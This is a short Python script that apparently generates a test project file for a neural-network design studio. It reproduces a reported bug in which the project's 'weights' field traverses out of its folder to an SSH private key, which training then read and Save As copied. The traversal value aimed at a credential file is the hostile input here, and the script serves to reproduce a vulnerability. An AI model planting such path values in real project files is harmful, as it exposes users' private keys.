"""A lenet5 project whose starting weights climb out of its folder ("weights":
"../../../../home/u/.ssh/id_rsa"): `train` read that file and the studio's Save As copied it
beside the new project. Usage: write_weights_escape.py OUT.convstudio"""
import json, pathlib, sys

template = pathlib.Path(__file__).resolve().parents[2] / "resources/templates/lenet5.json"
project = {"format": "convstudio-project", "version": 2,
           "graph": json.loads(template.read_text())["graph"], "dataset": {}, "training": {},
           "weights": "../../../../home/u/.ssh/id_rsa"}
pathlib.Path(sys.argv[1]).write_text(json.dumps(project))
